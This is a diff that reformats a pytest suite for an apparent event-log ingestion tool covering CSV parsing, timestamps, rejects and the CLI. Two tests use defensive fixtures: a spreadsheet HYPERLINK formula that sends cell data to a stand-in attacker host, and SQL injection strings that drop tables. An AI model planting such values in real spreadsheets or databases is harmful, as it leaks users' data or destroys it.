@@ -41,7 +41,15 @@ FILES = Path(__file__).parent / "files" / "ingest"
 
 #: The tables every workspace has after a load (attrs_1 only when a column is unmapped).
 WORKSPACE_TABLES = {
-    "_migrations", "logs", "ingest_runs", "events", "cases", "variants", "attribute_columns", "rejects", "quality",
+    "_migrations",
+    "logs",
+    "ingest_runs",
+    "events",
+    "cases",
+    "variants",
+    "attribute_columns",
+    "rejects",
+    "quality",
 }
 
 NOT_ISO = "does not match the column's timestamp format ISO 8601"
@@ -89,14 +97,27 @@ def timestamps(store: Store) -> list[tuple[int, dt.datetime]]:
 
 def attributes(store: Store, log_id: int = 1) -> tuple[list[str], list[tuple]]:
     """The unmapped columns as (header names, rows by row_no)."""
-    names = [r[0] for r in store.query(
-        "SELECT source_name FROM attribute_columns WHERE log_id = ? ORDER BY position", [log_id]).rows]
+    names = [
+        r[0]
+        for r in store.query(
+            "SELECT source_name FROM attribute_columns WHERE log_id = ? ORDER BY position", [log_id]
+        ).rows
+    ]
     rows = store.query(f'SELECT * FROM "attrs_{log_id}" ORDER BY row_no').rows
     return names, rows
 
 
 def assert_workspace_empty(store: Store) -> None:
-    for table in ("logs", "ingest_runs", "events", "cases", "variants", "rejects", "quality", "attribute_columns"):
+    for table in (
+        "logs",
+        "ingest_runs",
+        "events",
+        "cases",
+        "variants",
+        "rejects",
+        "quality",
+        "attribute_columns",
+    ):
         assert store.scalar(f"SELECT count(*) FROM {table}") == 0, table
 
 
@@ -111,35 +132,69 @@ def table_names(store: Store) -> set[str]:
 
 FAILURES = [
     pytest.param("empty.csv", {}, EmptyLog, ["empty.csv is empty"], "no header and no rows", id="empty"),
-    pytest.param("header_only.csv", {}, EmptyLog, ["header_only.csv has a header but no rows"], None,
-                 id="header-only"),
     pytest.param(
-        "ambiguous_dates.csv", {}, BadTimestamp,
-        ["ambiguous_dates.csv: column 'timestamp' fits both %d/%m/%Y %H:%M and %m/%d/%Y %H:%M",
-         "no day above 12 proves which is the day and which the month"],
-        "--dayfirst", id="ambiguous-day-month",
+        "header_only.csv", {}, EmptyLog, ["header_only.csv has a header but no rows"], None, id="header-only"
     ),
-    pytest.param("naive_local.csv", {"timezone": "Mars/Olympus"}, BadTimestamp,
-                 ["unknown time zone 'Mars/Olympus'", "IANA name"], None, id="unknown-timezone"),
     pytest.param(
-        "role_override.csv", {"roles": {"case": "Tiket"}}, MissingColumn,
-        ["role_override.csv: no column 'Tiket' for --case; "
-         "available columns: 'case_id', 'Ticket', 'activity', 'timestamp'"],
-        None, id="role-missing-column",
+        "ambiguous_dates.csv",
+        {},
+        BadTimestamp,
+        [
+            "ambiguous_dates.csv: column 'timestamp' fits both %d/%m/%Y %H:%M and %m/%d/%Y %H:%M",
+            "no day above 12 proves which is the day and which the month",
+        ],
+        "--dayfirst",
+        id="ambiguous-day-month",
     ),
-    pytest.param("ambiguous_case.csv", {}, AmbiguousMapping,
-                 ["ambiguous_case.csv: the case could be any of 'order_id', 'ticket_id'"], "pass --case COLUMN",
-                 id="ambiguous-case"),
     pytest.param(
-        "one_bad_in_ten.csv", {"max_rejects": 0.05}, TooManyRejects,
-        ["one_bad_in_ten.csv: 1 of 10 rows (10.0%) were rejected, more than the 5.0% allowed; nothing was loaded",
-         f"one_bad_in_ten.csv, row 6, column 'timestamp': {NOT_ISO} (value 'yesterday')"],
-        "--max-rejects", id="too-many-rejects",
+        "naive_local.csv",
+        {"timezone": "Mars/Olympus"},
+        BadTimestamp,
+        ["unknown time zone 'Mars/Olympus'", "IANA name"],
+        None,
+        id="unknown-timezone",
     ),
-    pytest.param("missing_values.csv", {}, TooManyRejects,
-                 ["missing_values.csv: 7 of 10 rows (70.0%) were rejected",
-                  "missing_values.csv, row 2, column 'case_id': missing case id"],
-                 "--max-rejects", id="missing-values-default-threshold"),
+    pytest.param(
+        "role_override.csv",
+        {"roles": {"case": "Tiket"}},
+        MissingColumn,
+        [
+            "role_override.csv: no column 'Tiket' for --case; "
+            "available columns: 'case_id', 'Ticket', 'activity', 'timestamp'"
+        ],
+        None,
+        id="role-missing-column",
+    ),
+    pytest.param(
+        "ambiguous_case.csv",
+        {},
+        AmbiguousMapping,
+        ["ambiguous_case.csv: the case could be any of 'order_id', 'ticket_id'"],
+        "pass --case COLUMN",
+        id="ambiguous-case",
+    ),
+    pytest.param(
+        "one_bad_in_ten.csv",
+        {"max_rejects": 0.05},
+        TooManyRejects,
+        [
+            "one_bad_in_ten.csv: 1 of 10 rows (10.0%) were rejected, more than the 5.0% allowed; nothing was loaded",
+            f"one_bad_in_ten.csv, row 6, column 'timestamp': {NOT_ISO} (value 'yesterday')",
+        ],
+        "--max-rejects",
+        id="too-many-rejects",
+    ),
+    pytest.param(
+        "missing_values.csv",
+        {},
+        TooManyRejects,
+        [
+            "missing_values.csv: 7 of 10 rows (70.0%) were rejected",
+            "missing_values.csv, row 2, column 'case_id': missing case id",
+        ],
+        "--max-rejects",
+        id="missing-values-default-threshold",
+    ),
 ]
 
 
@@ -174,7 +229,12 @@ def test_ragged_rows_rejected_with_their_row_numbers(store):
     assert counts(s) == (3, 5, 3, 3, 2)
     assert s.rows_read == 7
     assert rejects_of(s) == [
-        (2, None, "ragged line: more fields than the header (expected: 3 found: 4)", "1,B,2024-01-01 11:00,extra"),
+        (
+            2,
+            None,
+            "ragged line: more fields than the header (expected: 3 found: 4)",
+            "1,B,2024-01-01 11:00,extra",
+        ),
         (4, None, "ragged line: fewer fields than the header (expected: 3 found: 2)", "2,B"),
     ]
     # Rows after a ragged one keep their place in the file.
@@ -187,7 +247,8 @@ def test_ragged_rows_rejected_with_their_row_numbers(store):
     ]
     # The workspace keeps the same rejects.
     assert [(r.file, r.row, r.column) for r in stored_rejects(store, s.log_id)] == [
-        ("ragged_rows.csv", 2, None), ("ragged_rows.csv", 4, None)
+        ("ragged_rows.csv", 2, None),
+        ("ragged_rows.csv", 4, None),
     ]
     assert quality_of(s) == {}
 
@@ -208,8 +269,12 @@ def test_unterminated_quote_is_named(store):
     assert counts(s) == (2, 3, 2, 2, 1)
     assert s.rows_read == 4
     assert rejects_of(s) == [
-        (4, None, "a quoted field is never closed (unterminated quote)",
-         '2,"B,2024-01-02 11:00\n3,A,2024-01-03 10:00\n3,B,2024-01-03 11:00\n'),
+        (
+            4,
+            None,
+            "a quoted field is never closed (unterminated quote)",
+            '2,"B,2024-01-02 11:00\n3,A,2024-01-03 10:00\n3,B,2024-01-03 11:00\n',
+        ),
     ]
     assert [r[0] for r in events(store)] == [1, 2, 3]
 
@@ -229,10 +294,20 @@ def test_mixed_formats_reject_the_minority(store):
     ("dayfirst", "pattern", "expected", "variants"),
     [
         # Day-first, case 2 runs B (2 January) before A (1 February): two variants.
-        pytest.param(True, "%d/%m/%Y %H:%M", ["2024-04-03 10:00", "2024-04-05 11:00", "2024-02-01 09:00",
-                                               "2024-01-02 09:30"], 2, id="dayfirst"),
-        pytest.param(False, "%m/%d/%Y %H:%M", ["2024-03-04 10:00", "2024-05-04 11:00", "2024-01-02 09:00",
-                                                "2024-02-01 09:30"], 1, id="monthfirst"),
+        pytest.param(
+            True,
+            "%d/%m/%Y %H:%M",
+            ["2024-04-03 10:00", "2024-04-05 11:00", "2024-02-01 09:00", "2024-01-02 09:30"],
+            2,
+            id="dayfirst",
+        ),
+        pytest.param(
+            False,
+            "%m/%d/%Y %H:%M",
+            ["2024-03-04 10:00", "2024-05-04 11:00", "2024-01-02 09:00", "2024-02-01 09:30"],
+            1,
+            id="monthfirst",
+        ),
     ],
 )
 def test_ambiguous_dates_read_as_told(store, dayfirst, pattern, expected, variants):
@@ -248,7 +323,10 @@ def test_ambiguous_dates_read_with_timestamp_format(store):
     assert s.mapping.timestamp == "timestamp"
     assert s.timestamp_formats == {"timestamp": "%m/%d/%Y %H:%M"}
     assert timestamps(store) == [
-        (1, T("2024-03-04 10:00")), (2, T("2024-05-04 11:00")), (3, T("2024-01-02 09:00")), (4, T("2024-02-01 09:30")),
+        (1, T("2024-03-04 10:00")),
+        (2, T("2024-05-04 11:00")),
+        (3, T("2024-01-02 09:00")),
+        (4, T("2024-02-01 09:30")),
     ]
 
 
@@ -258,7 +336,10 @@ def test_day_above_twelve_proves_dayfirst_for_every_row(store):
     assert s.timestamp_formats == {"timestamp": "%d/%m/%Y %H:%M"}
     # 03/04/2024 is 3 April, like 13/04/2024 is 13 April.
     assert timestamps(store) == [
-        (1, T("2024-04-03 10:00")), (2, T("2024-04-13 11:00")), (3, T("2024-02-01 09:00")), (4, T("2024-03-02 09:30")),
+        (1, T("2024-04-03 10:00")),
+        (2, T("2024-04-13 11:00")),
+        (3, T("2024-02-01 09:00")),
+        (4, T("2024-03-02 09:30")),
     ]
 
 
@@ -268,14 +349,19 @@ def test_user_timestamp_format(store):
     assert s.mapping.timestamp == "timestamp"
     assert s.mapping.timestamp_format == "%Y.%m.%d-%Hh%M"
     assert timestamps(store) == [
-        (1, T("2024-01-05 10:30")), (2, T("2024-01-05 11:45")), (3, T("2024-02-06 09:00")), (4, T("2024-02-07 17:15")),
+        (1, T("2024-01-05 10:30")),
+        (2, T("2024-01-05 11:45")),
+        (3, T("2024-02-06 09:00")),
+        (4, T("2024-02-07 17:15")),
     ]
 
 
 @pytest.mark.parametrize(
     ("timezone", "naive_row"),
-    [pytest.param("UTC", "2024-06-01 12:00", id="utc"),
-     pytest.param("Europe/Berlin", "2024-06-01 10:00", id="berlin")],
+    [
+        pytest.param("UTC", "2024-06-01 12:00", id="utc"),
+        pytest.param("Europe/Berlin", "2024-06-01 10:00", id="berlin"),
+    ],
 )
 def test_offsets_are_honoured(store, timezone, naive_row):
     s = load(store, "offsets.csv", timezone=timezone)
@@ -285,7 +371,7 @@ def test_offsets_are_honoured(store, timezone, naive_row):
         (1, T("2024-06-01 08:00")),  # +02:00
         (2, T("2024-06-01 16:00")),  # -0600
         (3, T("2024-06-01 08:00")),  # Z
-        (4, T(naive_row)),           # no offset: read in the log's zone
+        (4, T(naive_row)),  # no offset: read in the log's zone
     ]
 
 
@@ -294,11 +380,13 @@ NAIVE_WARNING = "timestamps without an offset in 'timestamp' were read as UTC"
 
 @pytest.mark.parametrize(
     ("stamps", "warned"),
-    [pytest.param(["2024-06-01T08:00:00Z", "2024-06-01 10:00:00+02:00"], False, id="iso-with-offsets"),
-     pytest.param(["2024-06-01T08:00:00Z", "2024-06-01 12:00:00"], True, id="iso-one-naive"),
-     pytest.param(["2024-06-01", "2024-06-02"], True, id="iso-dates"),
-     pytest.param(["1717228800", "1717232400"], False, id="unix-seconds"),
-     pytest.param(["06/13/2024 10:00", "06/14/2024 11:00"], True, id="month-first")],
+    [
+        pytest.param(["2024-06-01T08:00:00Z", "2024-06-01 10:00:00+02:00"], False, id="iso-with-offsets"),
+        pytest.param(["2024-06-01T08:00:00Z", "2024-06-01 12:00:00"], True, id="iso-one-naive"),
+        pytest.param(["2024-06-01", "2024-06-02"], True, id="iso-dates"),
+        pytest.param(["1717228800", "1717232400"], False, id="unix-seconds"),
+        pytest.param(["06/13/2024 10:00", "06/14/2024 11:00"], True, id="month-first"),
+    ],
 )
 def test_naive_warning_counts_values_without_an_offset(store, tmp_path, stamps, warned):
     path = tmp_path / "stamps.csv"
@@ -326,9 +414,15 @@ def test_naive_times_in_a_named_zone(store):
 
 
 DST_LOCAL = [
-    "2024-03-31 01:30", "2024-03-31 02:30", "2024-03-31 03:05",
-    "2024-10-27 01:30", "2024-10-27 02:30", "2024-10-27 03:05",
-    "2024-05-01 10:00", "2024-05-01 11:00", "2024-05-01 12:00",
+    "2024-03-31 01:30",
+    "2024-03-31 02:30",
+    "2024-03-31 03:05",
+    "2024-10-27 01:30",
+    "2024-10-27 02:30",
+    "2024-10-27 03:05",
+    "2024-05-01 10:00",
+    "2024-05-01 11:00",
+    "2024-05-01 12:00",
 ]
 
 
@@ -343,12 +437,16 @@ def test_dst_gap_and_overlap_default_policy(store):
         T("2024-10-26 23:30"),
         T("2024-10-27 00:30"),  # 02:30 happens twice: the first, +02:00
         T("2024-10-27 02:05"),
-        T("2024-05-01 08:00"), T("2024-05-01 09:00"), T("2024-05-01 10:00"),
+        T("2024-05-01 08:00"),
+        T("2024-05-01 09:00"),
+        T("2024-05-01 10:00"),
     ]
     assert timestamps(store) == list(enumerate(expected, start=1))
     # The docstring's contract: the same as zoneinfo with fold=0.
     berlin = ZoneInfo("Europe/Berlin")
-    assert expected == [dt.datetime.fromisoformat(v).replace(tzinfo=berlin).astimezone(dt.UTC) for v in DST_LOCAL]
+    assert expected == [
+        dt.datetime.fromisoformat(v).replace(tzinfo=berlin).astimezone(dt.UTC) for v in DST_LOCAL
+    ]
 
 
 def test_dst_gap_and_overlap_rejected(store):
@@ -381,8 +479,10 @@ def test_utf8_with_bom(store):
 
 
 def test_utf16_le_with_bom_tab_separated(store, tmp_path):
-    text = "case_id\tactivity\ttimestamp\n1\tPrüfung\t2024-01-01 10:00\n1\tCafé\t2024-01-01 11:00\n" \
-           "2\tPrüfung\t2024-01-02 10:00\n2\tCafé\t2024-01-02 11:00\n"
+    text = (
+        "case_id\tactivity\ttimestamp\n1\tPrüfung\t2024-01-01 10:00\n1\tCafé\t2024-01-01 11:00\n"
+        "2\tPrüfung\t2024-01-02 10:00\n2\tCafé\t2024-01-02 11:00\n"
+    )
     path = tmp_path / "utf16.tsv"
     path.write_bytes(codecs.BOM_UTF16_LE + text.encode("utf-16-le"))
     s = load(store, path)
@@ -437,23 +537,29 @@ def test_excel_sep_line(store):
 def test_ids_stay_text(store):
     s = load(store, "id_text.csv")
     assert counts(s) == (3, 6, 2, 1, 0)
-    assert store.query("SELECT case_id FROM cases ORDER BY case_no").rows == [("00123",), ("1.23457E+15",), ("123",)]
+    assert store.query("SELECT case_id FROM cases ORDER BY case_no").rows == [
+        ("00123",),
+        ("1.23457E+15",),
+        ("123",),
+    ]
 
 
 def test_missing_values_and_null_tokens(store):
     s = load(store, "missing_values.csv", max_rejects=0.8)
     assert counts(s) == (2, 3, 2, 2, 7)
     assert rejects_of(s) == [
-        (2, "case_id", "missing case id", None),       # empty
-        (3, "activity", "missing activity", None),     # empty
-        (4, "timestamp", "missing timestamp", None),   # empty
-        (5, "case_id", "missing case id", None),       # NULL
-        (6, "activity", "missing activity", None),     # nan
-        (7, "timestamp", "missing timestamp", None),   # N/A
-        (8, "case_id", "missing case id", None),       # blanks
+        (2, "case_id", "missing case id", None),  # empty
+        (3, "activity", "missing activity", None),  # empty
+        (4, "timestamp", "missing timestamp", None),  # empty
+        (5, "case_id", "missing case id", None),  # NULL
+        (6, "activity", "missing activity", None),  # nan
+        (7, "timestamp", "missing timestamp", None),  # N/A
+        (8, "case_id", "missing case id", None),  # blanks
     ]
     assert store.query("SELECT row_no, case_id, activity, resource FROM events ORDER BY row_no").rows == [
-        (1, "1", "A", "ann"), (9, "2", "A", None), (10, "2", "B", None),
+        (1, "1", "A", "ann"),
+        (9, "2", "A", None),
+        (10, "2", "B", None),
     ]
 
 
@@ -462,7 +568,7 @@ def test_control_characters_reject_the_row(store):
     assert counts(s) == (2, 4, 2, 1, 2)
     assert rejects_of(s) == [
         (2, "activity", "control character in the row", None),  # BEL
-        (5, "note", "control character in the row", None),      # ESC
+        (5, "note", "control character in the row", None),  # ESC
     ]
     assert [r[0] for r in events(store)] == [1, 3, 4, 6]
 
@@ -493,11 +599,11 @@ def test_duplicates_and_ties_are_kept_and_counted(store):
     assert quality_of(s) == {"duplicate_events": 1, "timestamp_ties": 2}
     # Tied events keep the file's order: C (row 4) before A (row 5).
     assert store.query(
-        "SELECT row_no, activity, next_activity FROM events WHERE case_id = '2' ORDER BY row_no").rows == [
-        (4, "C", "A"), (5, "A", "B"), (6, "B", None)
-    ]
+        "SELECT row_no, activity, next_activity FROM events WHERE case_id = '2' ORDER BY row_no"
+    ).rows == [(4, "C", "A"), (5, "A", "B"), (6, "B", None)]
     assert store.query("SELECT variant_id, activities FROM variants ORDER BY variant_id").rows == [
-        (1, ["A", "A", "B"]), (2, ["C", "A", "B"])
+        (1, ["A", "A", "B"]),
+        (2, ["C", "A", "B"]),
     ]
 
 
@@ -526,7 +632,11 @@ def test_formula_cells_load_verbatim_and_export_neutralised(store, tmp_path):
     assert counts(s) == (3, 5, 4, 3, 2)
     hyperlink = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
     assert [r[:3] for r in events(store)] == [
-        (1, "1", hyperlink), (2, "1", "B"), (3, "2", "@SUM(A1)"), (4, "2", "B"), (5, "3", "+1"),
+        (1, "1", hyperlink),
+        (2, "1", "B"),
+        (3, "2", "@SUM(A1)"),
+        (4, "2", "B"),
+        (5, "3", "+1"),
     ]
     assert attributes(store) == (["note"], [(1, "+1"), (2, "-2"), (3, "=1+1"), (4, "plain"), (5, "@SUM(A1)")])
     assert rejects_of(s) == [(6, "timestamp", NOT_ISO, "=NOW()"), (7, "timestamp", NOT_ISO, "@TODAY")]
@@ -549,7 +659,8 @@ def test_sql_like_header_and_cells_are_data(store):
     assert s.mapping.case == "case_id"
     assert [r[2] for r in events(store)] == ["A", "'); DROP TABLE events; --", "A", "B"]
     assert attributes(store) == (
-        [header], [(1, "'); DROP TABLE events; --"), (2, "x"), (3, 'Robert"); DROP TABLE cases;--'), (4, "y")]
+        [header],
+        [(1, "'); DROP TABLE events; --"), (2, "x"), (3, 'Robert"); DROP TABLE cases;--'), (4, "y")],
     )
     assert WORKSPACE_TABLES | {"attrs_1"} <= table_names(store)
     assert store.scalar("SELECT count(*) FROM logs") == 1
@@ -603,7 +714,8 @@ def test_other_data_under_the_same_name_needs_append(store):
 
 def _event_multiset(store: Store) -> list[tuple]:
     return store.query(
-        "SELECT case_id, activity, ts, resource FROM events ORDER BY case_id, ts, activity, resource").rows
+        "SELECT case_id, activity, ts, resource FROM events ORDER BY case_id, ts, activity, resource"
+    ).rows
 
 
 def test_append_adds_only_new_events(store):
@@ -614,15 +726,21 @@ def test_append_adds_only_new_events(store):
     assert s.events_added == 3
     assert counts(s) == (3, 7, 2, 2, 0)
     # The new events keep their row in the second file (rows 5-11 of the log's runs).
-    assert store.query("SELECT row_no, run_id, case_id, activity FROM events WHERE run_id = 2 ORDER BY row_no").rows == [
-        (9, 2, "2", "B"), (10, 2, "3", "A"), (11, 2, "3", "B"),
+    assert store.query(
+        "SELECT row_no, run_id, case_id, activity FROM events WHERE run_id = 2 ORDER BY row_no"
+    ).rows == [
+        (9, 2, "2", "B"),
+        (10, 2, "3", "A"),
+        (11, 2, "3", "B"),
     ]
     with Store() as union:
         once = load(union, "append_export_2.csv", name="orders")
         assert counts(once) == counts(s)
         assert _event_multiset(union) == _event_multiset(store)
-        assert union.query("SELECT activities, n_cases FROM variants ORDER BY variant_id").rows == \
-            store.query("SELECT activities, n_cases FROM variants ORDER BY variant_id").rows
+        assert (
+            union.query("SELECT activities, n_cases FROM variants ORDER BY variant_id").rows
+            == store.query("SELECT activities, n_cases FROM variants ORDER BY variant_id").rows
+        )
     again = load(store, "append_export_2.csv", name="orders", append=True)
     assert again.status == "unchanged"
     assert store.scalar("SELECT count(*) FROM ingest_runs") == 2
@@ -745,12 +863,14 @@ def test_tiny_log_parquet(store, tmp_path):
     import pyarrow as pa
     import pyarrow.parquet as pq
 
-    table = pa.table({
-        "case_id": [r[0] for r in TINY_ROWS],
-        "activity": [r[1] for r in TINY_ROWS],
-        "timestamp": pa.array([r[2] for r in TINY_ROWS], pa.timestamp("us")),
-        "resource": [r[3] for r in TINY_ROWS],
-    })
+    table = pa.table(
+        {
+            "case_id": [r[0] for r in TINY_ROWS],
+            "activity": [r[1] for r in TINY_ROWS],
+            "timestamp": pa.array([r[2] for r in TINY_ROWS], pa.timestamp("us")),
+            "resource": [r[3] for r in TINY_ROWS],
+        }
+    )
     path = tmp_path / "tiny_log.parquet"
     pq.write_table(table, path)
     s = load(store, path)
@@ -790,7 +910,15 @@ def test_cli_bad_file_exits_1_without_traceback(tmp_path):
     workspace = tmp_path / "ws.duckdb"
     rejects_csv = tmp_path / "rejects.csv"
     result = CliRunner().invoke(
-        cli, ["--workspace", str(workspace), "ingest", str(FILES / "one_bad_in_ten.csv"), "--rejects", str(rejects_csv)]
+        cli,
+        [
+            "--workspace",
+            str(workspace),
+            "ingest",
+            str(FILES / "one_bad_in_ten.csv"),
+            "--rejects",
+            str(rejects_csv),
+        ],
     )
     assert result.exit_code == 1
     assert result.stdout == ""
@@ -810,11 +938,28 @@ def test_cli_json_summary(tmp_path):
 
     workspace = tmp_path / "ws.duckdb"
     result = CliRunner().invoke(
-        cli, ["--workspace", str(workspace), "ingest", str(FILES / "ragged_rows.csv"), "--max-rejects", "0.5", "--json"]
+        cli,
+        [
+            "--workspace",
+            str(workspace),
+            "ingest",
+            str(FILES / "ragged_rows.csv"),
+            "--max-rejects",
+            "0.5",
+            "--json",
+        ],
     )
     assert result.exit_code == 0, result.output
     data = json.loads(result.stdout)
     assert {k: data[k] for k in ("log", "cases", "events", "activities", "variants", "rejected_rows")} == {
-        "log": "ragged_rows", "cases": 3, "events": 5, "activities": 3, "variants": 3, "rejected_rows": 2,
+        "log": "ragged_rows",
+        "cases": 3,
+        "events": 5,
+        "activities": 3,
+        "variants": 3,
+        "rejected_rows": 2,
     }
-    assert [(r["row"], r["reason"][:12]) for r in data["rejects"]] == [(2, "ragged line:"), (4, "ragged line:")]
+    assert [(r["row"], r["reason"][:12]) for r in data["rejects"]] == [
+        (2, "ragged line:"),
+        (4, "ragged line:"),
+    ]
